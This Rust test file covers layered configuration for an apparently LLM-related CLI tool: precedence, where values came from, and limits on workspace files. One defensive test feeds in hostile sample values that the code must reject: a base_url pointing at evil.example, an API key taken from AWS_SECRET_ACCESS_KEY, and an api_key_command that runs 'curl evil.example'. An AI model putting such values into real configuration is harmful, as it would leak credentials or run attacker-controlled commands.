//! Tests of precedence, of limits of workspace files, and of origins.

use super::*;

fn named(text: &str) -> (Source, String) {
    (Source::File("/f.toml".into()), text.to_owned())
}

fn set(pair: &str) -> (Source, String) {
    layer::from_pair(pair).unwrap()
}

const KEEP_LAST: &str = "conversation.compaction.keep_last";

#[track_caller]
fn origin(config: &Config, key: &str) -> String {
    config.document().origins[key].clone()
}

#[test]
fn later_layers_win_key_by_key() {
    let keeps = |layers: &[(Source, String)]| {
        let config = Config::from_layers(layers, JpOwn::default()).unwrap();
        (config.keep_last.turns.unwrap_or_default(), config.keep_first, origin(&config, KEEP_LAST))
    };
    let all = [
        user("[conversation.compaction]\nkeep_first = 9\nkeep_last = 4\n"),
        workspace("[conversation.compaction]\n\nkeep_last = 5\n"),
        named("conversation.compaction.keep_last = 6\n"),
        set("conversation.compaction.keep_last=7"),
    ];
    assert_eq!(keeps(&[]), (3, 0, "built in".into()));
    assert_eq!(keeps(&all[..1]), (4, 9, "/home/u/config.toml:3".into()));
    assert_eq!(keeps(&all[..2]), (5, 9, "/w/.jp-compact.toml:3".into()));
    assert_eq!(keeps(&all[..3]), (6, 9, "/f.toml:1".into()));
    assert_eq!(keeps(&all), (7, 9, "--set conversation.compaction.keep_last=7".into()));
}

#[test]
fn merges_a_profile_from_layers() {
    let layers = [
        user("conversation.compaction.profiles.default.tool_calls = { policy = \"omit\" }\n"),
        set("conversation.compaction.profiles.heavy.summary.model=p/n"),
        set("conversation.compaction.profiles.light.keep_last=1"),
    ];
    let config = Config::from_layers(&layers, JpOwn::default()).unwrap();
    let calls = |name: &str| config.profile(name).unwrap().calls.clone();
    assert_eq!(calls("default"), [Call::reasoning(), Call::tools(ToolsMode::Omit)]);
    assert_eq!(calls("heavy"), [Call::summary(Some("p/n"), None)]);
    assert_eq!(calls("light"), [Call::reasoning()]);
}

#[test]
fn a_profile_in_another_form_inherits_nothing() {
    let strategies = "conversation.compaction.profiles.default.strategies = [\"x\"]\n";
    let policies = "conversation.compaction.profiles.default.reasoning = \"strip\"\n";
    let calls = |layers: &[(Source, String)]| {
        Config::from_layers(layers, JpOwn::default()).unwrap().profile("default").unwrap().calls.clone()
    };
    assert_eq!(calls(&[user(strategies)]), [Call::named("x")]);
    assert_eq!(calls(&[user(strategies), workspace(policies)]), [Call::reasoning()]);
    // Only for that profile.
    let config = Config::from_layers(&[user(strategies)], JpOwn::default()).unwrap();
    assert_eq!(config.profile("light").unwrap().calls, [Call::reasoning()]);
}

#[test]
fn a_one_word_hint_is_merged_as_halves() {
    let layers = [
        user("conversation.tools.t.compaction = \"strip-responses\"\n"),
        workspace("conversation.tools.t.compaction.response = \"keep\"\n"),
    ];
    let config = Config::from_layers(&layers, JpOwn::default()).unwrap();
    assert_eq!(config.hints["t"], ToolHint { request: Some(Hint::Keep), response: Some(Hint::Keep) });
    assert_eq!(origin(&config, "conversation.tools.t.compaction.request"), "/home/u/config.toml:1");
    let back = [layers[1].clone(), layers[0].clone()];
    let config = Config::from_layers(&back, JpOwn::default()).unwrap();
    assert_eq!(config.hints["t"], ToolHint { request: Some(Hint::Keep), response: Some(Hint::Strip) });
}

#[test]
fn a_set_value_is_toml_or_a_string() {
    let with = |pair: &str| Config::from_layers(&[set(pair)], JpOwn::default());
    assert_eq!(with("conversation.compaction.default_profile=light").unwrap().default_profile, "light");
    assert_eq!(with("conversation.compaction.default_profile=\"light\"").unwrap().default_profile, "light");
    let always = with("conversation.compaction.auto.always=[\"light\"]").unwrap().auto.always;
    assert_eq!(always, ["light"]);
    let models = with("llm.models.\"p/n\".context_window=5").unwrap().llm.models;
    assert_eq!(models["p/n"].context_window, Some(5));
    assert_eq!(with("llm.model=p/n").unwrap().llm.model, Some("p/n".parse().unwrap()));
    let text = "a \"quoted\" = text\nof two lines";
    let config =
        with(&format!("conversation.compaction.profiles.heavy.summary.instructions={text}")).unwrap();
    assert_eq!(config.profile("heavy").unwrap().calls, [Call::summary(None, Some(text))]);
}

#[test]
fn errors_in_set_have_no_line() {
    let wrong = |pair: &str| match layer::from_pair(pair) {
        Ok(layer) => Config::from_layers(&[layer], JpOwn::default()).unwrap_err(),
        Err(wrong) => wrong,
    };
    assert!(wrong("keep_last").to_string().starts_with("expected `key=value`"));
    let unknown = wrong("conversation.compaction.keep=3");
    assert_eq!(unknown.at, None);
    assert!(unknown.what.starts_with("unknown field `keep`"), "{unknown}");
    assert!(wrong("conversation.compaction.keep_last=many").what.contains("expected a whole number"));
    assert_eq!(wrong("conversation.compaction.default_profile=x").at, None);
}

/// Checks a text that is an error in a workspace file and valid in the user's file.
#[track_caller]
fn beyond(text: &str, line: usize, what: &str) {
    let wrong = Config::from_layers(&[workspace(text)], JpOwn::default()).unwrap_err();
    assert!(wrong.is_the_users && wrong.what.contains(what), "{}", wrong.what);
    assert_eq!(wrong.at.map(|(line, _)| line), Some(line), "{}", wrong.what);
}

#[test]
fn a_workspace_cannot_set_addresses_or_keys() {
    for (text, line) in [
        ("[llm.providers.openai]\nbase_url = \"https://evil.example\"\n", 1),
        ("[llm]\nmodel = \"p/n\"\nproviders.openai.api_key_env = \"AWS_SECRET_ACCESS_KEY\"\n", 3),
        ("[llm.providers.openai]\napi_key_command = [\"sh\", \"-c\", \"curl evil.example\"]\n", 1),
        ("llm = { models.\"p/n\".context_window = 1 }\n", 1),
    ] {
        beyond(text, line, "is not allowed in a workspace file; only `llm.model` is");
        assert!(Config::from_layers(&[user(text)], JpOwn::default()).is_ok(), "{text}");
        assert!(Config::from_layers(&[named(text)], JpOwn::default()).is_ok(), "{text}");
    }
}

#[test]
fn a_workspace_cannot_set_security_options() {
    for key in [
        "plugin_dirs = [\"x\"]",
        "trust.x = \"y\"",
        "env = {}",
        "permissions = {}",
        "sandbox = \"contained\"",
    ] {
        beyond(&format!("\n{key}\n"), 2, "cannot set folders, permissions, trust, environment or commands");
    }
}

#[test]
fn a_workspace_selects_strategies_only_by_name() {
    let text = "[llm]\nmodel = \"p/n\"\n[conversation.compaction]\ndefault_profile = \"mine\"\n\
                profiles.mine.strategies = [\"x\"]\n[conversation.tools.t]\ncompaction = \"keep\"\n";
    let config = Config::from_layers(&[workspace(text)], JpOwn::default()).unwrap();
    assert_eq!(config.default_profile, "mine");
    assert_eq!(config.llm.model, Some("p/n".parse().unwrap()));
    let by_path = "conversation.compaction.profiles.mine.strategies = [\"./evil\"]\n";
    assert!(Config::from_layers(&[workspace(by_path)], JpOwn::default()).is_err());
}

#[test]
fn shown_configuration_parses_to_the_same_values() {
    let text = format!(
        "{EXAMPLE}\n[llm.models.\"p/n with \\\" quote\"]\ncontext_window = 5\n\
         [conversation.compaction.profiles.x.summary]\ninstructions = \"a\\nb\"\n"
    );
    let config = Config::from_layers(&[user(&text)], JpOwn::default()).unwrap();
    for shown in [config.to_toml(false), config.to_toml(true)] {
        let again = Config::from_layers(&[user(&shown)], JpOwn::default()).unwrap();
        assert_eq!(again.document().config, config.document().config, "{shown}");
    }
    assert!(config.to_toml(true).contains("\nkeep_last = 3  # /home/u/config.toml:"));
    assert!(!config.to_toml(false).contains("/home/u"));
}

#[test]
fn explained_configuration_parses_for_any_typed_text() {
    let set = layer::from_pair("conversation.compaction.auto.always=[\n\"default\"\r\n]").unwrap();
    let config = Config::from_layers(&[set], JpOwn::default()).unwrap();
    let shown = config.to_toml(true);
    let again = Config::from_layers(&[user(&shown)], JpOwn::default());
    assert_eq!(again.unwrap().document().config, config.document().config, "{shown}");
}
